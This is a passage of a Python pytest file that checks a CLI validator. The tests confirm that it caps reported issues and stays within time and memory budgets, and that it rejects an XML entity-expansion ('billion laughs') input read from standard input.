    path.write_bytes(build())
    outcome, elapsed, grown = measured(lambda: main(["validate", str(path), "--format", "json"]))
    out, _ = capsys.readouterr()
    assert outcome == ExitCode.PROBLEMS
    assert out.count('"code"') <= reader.DEFAULT_LIMITS.max_issues + 1
    within_budget(outcome, elapsed, grown, SECONDS, MEGABYTES)


def test_cli_reads_hostile_standard_input_the_same_way(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    stdin = io.TextIOWrapper(io.BytesIO(billion_laughs()))
    monkeypatch.setattr(sys, "stdin", stdin)
    with contextlib.closing(stdin):
        code = main(["validate", "-", "--from", "xml"])
    out, err = capsys.readouterr()
    assert code == ExitCode.UNUSABLE
    assert "DOCTYPE" in out + err
